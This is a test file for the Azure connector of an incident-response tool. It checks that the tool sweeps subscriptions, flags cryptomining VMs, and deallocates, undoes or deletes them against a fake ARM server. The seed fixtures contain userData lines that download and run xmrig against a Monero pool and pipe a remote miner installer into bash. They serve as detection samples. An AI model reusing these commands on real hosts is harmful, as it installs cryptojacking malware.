/**
 * The Azure connector with the real SDK (@azure/arm-compute, @azure/arm-resources-subscriptions) against
 * the fake ARM server over https on 127.0.0.1 (self-signed certificate made with openssl; the SDK refuses
 * bearer tokens over http). Sweep, stop (deallocate) / verify / undo, delete, protection, re-creation.
 */
import { test, before, after, beforeEach } from "node:test";
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { loadIntel } from "../../../intel/index.js";
import { skipOrFailInCi } from "../../../test-helpers/index.js";
import { selfSignedCert } from "../test-tls.js";
import { asPlanStep, testContext, testIncident } from "../test-context.js";
import { FakeArm, type FakeVm } from "./fake-arm-server.js";
import { createAzureClients } from "./client.js";
import { azureBackend } from "./vms.js";
import { deleteVmAzure, stopVmAzure } from "./actions.js";
import type { AzureClients } from "./types.js";

const S1 = "6f1c2a3b-0000-4000-8000-00000000a001";
const S2 = "6f1c2a3b-0000-4000-8000-00000000a002";
const TOKEN = "fake-arm-token";
const intel = loadIntel();
let haveOpenssl = true;
try { execFileSync("openssl", ["version"], { stdio: "ignore" }); } catch { haveOpenssl = false; }

function seed(arm: FakeArm): void {
  arm.subscriptions.splice(0, arm.subscriptions.length, S1, S2);
  arm.forbidden.clear();
  arm.forbidden.add(S2);
  const vms: FakeVm[] = [
    { subscription: S1, resourceGroup: "rg-batch", name: "nc6-miner", location: "eastus", vmSize: "Standard_NC6s_v3", vmId: "0b7d1e2a-0001", power: "running", tags: { owner: "unknown" },
      userData: "#!/bin/bash\ncurl -s http://203.0.113.9/xmrig -o /tmp/.x/xmrig\n/tmp/.x/xmrig -o stratum+tcp://pool.supportxmr.com:3333 --donate-level 1\n" },
    { subscription: S1, resourceGroup: "rg-web", name: "d4-dropper", location: "westeurope", vmSize: "Standard_D4s_v5", vmId: "0b7d1e2a-0002", power: "running",
      userData: "#!/bin/sh\ncurl -s -L https://example.net/setup_c3pool_miner.sh | bash -s 4ABC\n" },
    { subscription: S1, resourceGroup: "rg-ml", name: "ml-train", location: "eastus", vmSize: "Standard_NC24ads_A100_v4", vmId: "0b7d1e2a-0003", power: "running", userData: "#!/bin/bash\npip install torch==2.5.1\n" },
    { subscription: S1, resourceGroup: "rg-web", name: "web", location: "eastus", vmSize: "Standard_B2s", vmId: "0b7d1e2a-0004", power: "running" },
    { subscription: S1, resourceGroup: "rg-batch", name: "miner-parked", location: "southeastasia", vmSize: "Standard_NC6s_v3", vmId: "0b7d1e2a-0005", power: "deallocated", userData: "xmrig --coin monero" },
  ];
  arm.vms.splice(0, arm.vms.length, ...vms);
}

let arm: FakeArm;
let clients: AzureClients;
before(async (t) => {
  if (!haveOpenssl) return;
  const tls = await selfSignedCert();
  arm = new FakeArm(tls, TOKEN);
  const url = await arm.listen();
  clients = createAzureClients({ endpoint: url, ca: tls.cert, pollIntervalMs: 1, maxRetries: 0, credential: { getToken: async () => ({ token: TOKEN, expiresOnTimestamp: Date.now() + 3_600_000 }) } });
  void t;
});
after(async () => { await arm?.close(); });
beforeEach(() => { if (arm) { seed(arm); arm.requests.length = 0; } });

function needOpenssl(t: import("node:test").TestContext): boolean {
  if (haveOpenssl) return true;
  skipOrFailInCi(t, "openssl is not installed: the fake ARM server needs a certificate");
  return false;
}

test("the sweep lists every enabled subscription, pages through every VM, flags the miners and reports the forbidden subscription", async (t) => {
  if (!needOpenssl(t)) return;
  const sweep = await azureBackend(clients).sweep(intel);
  assert.deepEqual(sweep.accounts, [S1, S2]);
  assert.deepEqual(sweep.vms.map((v) => v.name).sort(), ["d4-dropper", "miner-parked", "ml-train", "nc6-miner", "web"]);
  assert.deepEqual(sweep.suspicious.map((v) => v.name).sort(), ["d4-dropper", "miner-parked", "nc6-miner"]);
  const ml = sweep.vms.find((v) => v.name === "ml-train")!;
  assert.equal(ml.gpu, true, "a GPU VM is noted ...");
  assert.ok(!sweep.suspicious.includes(ml), "... but a GPU alone is not a miner");
  const nc6 = sweep.suspicious.find((v) => v.name === "nc6-miner")!;
  assert.equal(nc6.power, "running");
  assert.equal(nc6.uid, "0b7d1e2a-0001");
  assert.ok(nc6.signs.some((s) => s.kind === "stratum" && s.where === "userData"));
  assert.equal(sweep.unreachable.length, 1);
  assert.match(sweep.unreachable[0]!.scope, new RegExp(S2));
  assert.match(sweep.unreachable[0]!.reason, /403/);
  const listCalls = arm.requests.filter((r) => r.path === `/subscriptions/${S1}/providers/Microsoft.Compute/virtualMachines`);
  assert.equal(listCalls.length, 3, "5 VMs at 2 per page: the SDK followed nextLink twice");
});

test("stop-vm-azure deallocates the running miners only, verifies, is idempotent and undoes by starting", async (t) => {
  if (!needOpenssl(t)) return;
  const ctx = testContext({ azure: clients });
  const unreadable: string[] = [];
  const planned = await stopVmAzure.plan({ incident: testIncident({}), findings: [], params: {}, mode: "terminate-now", checklistItem: "containment.stop-instance", unreachable: (scope, reason) => unreadable.push(`${scope}: ${reason}`) }, ctx);
  assert.deepEqual(planned.map((s) => s.target.label?.split(" ")[0]).sort(), ["d4-dropper", "nc6-miner"]);
  const nc6 = planned.find((s) => s.target.id.endsWith("/nc6-miner"))!;
  assert.equal(nc6.usdPerHour, 3.06);
  assert.equal(nc6.stopsUsdPerHour, 3.06);
  assert.match(nc6.call, /^azure POST https:\/\/127\.0\.0\.1:\d+\/subscriptions\/.+\/virtualMachines\/nc6-miner\/deallocate\?api-version=/);
  assert.equal(unreadable.length, 1, "the plan says which subscription it could not read");
  assert.match(unreadable[0]!, new RegExp(`^subscription ${S2}: HTTP 403 AuthorizationFailed`));
  assert.ok(arm.requests.every((r) => r.method === "GET"), "planning changes nothing");

  const steps = planned.map((s) => asPlanStep("stop-vm-azure", s));
  const undo: Record<string, Record<string, unknown>> = {};
  for (const step of steps) {
    assert.equal(await stopVmAzure.precondition(step, ctx), undefined);
    undo[step.id] = (await stopVmAzure.execute(step, ctx)).undo!;
    const v = await stopVmAzure.verify(step, ctx);
    assert.ok(v.ok, v.reason);
    assert.equal(v.observed["power"], "deallocated");
  }
  assert.equal(arm.vm("web")!.power, "running");
  assert.equal(arm.vm("ml-train")!.power, "running");
  const posts = arm.requests.filter((r) => r.method === "POST").length;
  for (const step of steps) assert.deepEqual(await stopVmAzure.execute(step, ctx), { detail: { alreadyStopped: "deallocated" } });
  assert.equal(arm.requests.filter((r) => r.method === "POST").length, posts, "a second run sends nothing");

  await stopVmAzure.undo!(steps[0]!, undo[steps[0]!.id]!, ctx);
  const back = await azureBackend(clients).state({ id: steps[0]!.target.id, name: "", account: S1, location: "" });
  assert.equal(back.power, "running");
});

test("protected VMs are refused at plan time and before execution; a re-created VM is not acted on with the old plan", async (t) => {
  if (!needOpenssl(t)) return;
  const ctx = testContext({ azure: clients }, ["nc6-*"]);
  const planned = await stopVmAzure.plan({ incident: testIncident({}), findings: [], params: {}, mode: "terminate-now", checklistItem: "x" }, ctx);
  const nc6 = planned.find((s) => s.target.id.endsWith("/nc6-miner"))!;
  assert.match(nc6.refused!.reason.en, /protected/);
  assert.match((await stopVmAzure.precondition(asPlanStep("stop-vm-azure", nc6), ctx))!.en, /protected/);
  const d4 = asPlanStep("stop-vm-azure", planned.find((s) => s.target.id.endsWith("/d4-dropper"))!);
  arm.vm("d4-dropper")!.vmId = "0b7d1e2a-9999";
  assert.match((await stopVmAzure.precondition(d4, ctx))!.en, /changed since the plan/);
});

test("delete-vm-azure is destructive, includes the parked miner, deletes and verifies; scope incident takes only what the incident names", async (t) => {
  if (!needOpenssl(t)) return;
  const ctx = testContext({ azure: clients });
  const planned = await deleteVmAzure.plan({ incident: testIncident({}), findings: [], params: {}, mode: "terminate-now", checklistItem: "eradication.delete" }, ctx);
  assert.deepEqual(planned.map((s) => s.target.id.split("/").pop()).sort(), ["d4-dropper", "miner-parked", "nc6-miner"]);
  assert.ok(planned.every((s) => s.risk === "destructive" && s.undoable === false));
  const parked = asPlanStep("delete-vm-azure", planned.find((s) => s.target.id.endsWith("/miner-parked"))!);
  await deleteVmAzure.execute(parked, ctx);
  assert.equal(arm.vm("miner-parked"), undefined);
  assert.ok((await deleteVmAzure.verify(parked, ctx)).ok);
  assert.deepEqual(await deleteVmAzure.execute(parked, ctx), { detail: { alreadyAbsent: true } });
  assert.equal(arm.vms.length, 4);

  const scoped = await deleteVmAzure.plan({ incident: testIncident({ instances: ["ml-train"] }), findings: [], params: { scope: "incident" }, mode: "terminate-now", checklistItem: "x" }, ctx);
  assert.deepEqual(scoped.map((s) => s.target.id.split("/").pop()), ["ml-train"]);
  assert.match(scoped[0]!.why.en, /named in the incident/);
});

test("without Azure clients the actions plan one refused step", async () => {
  assert.deepEqual(await stopVmAzure.plan({ incident: testIncident({ providers: ["aws"] }), findings: [], params: {}, mode: "terminate-now", checklistItem: "x" }, testContext({})), []);
  const steps = await stopVmAzure.plan({ incident: testIncident({ providers: ["azure"] }), findings: [], params: {}, mode: "terminate-now", checklistItem: "x" }, testContext({}));
  assert.equal(steps.length, 1);
  assert.match(steps[0]!.refused!.reason.en, /No Azure client/);
  assert.ok(stopVmAzure.permissions.includes("Microsoft.Compute/virtualMachines/deallocate/action"));
  assert.ok(deleteVmAzure.permissions.includes("Microsoft.Compute/virtualMachines/delete"));
});
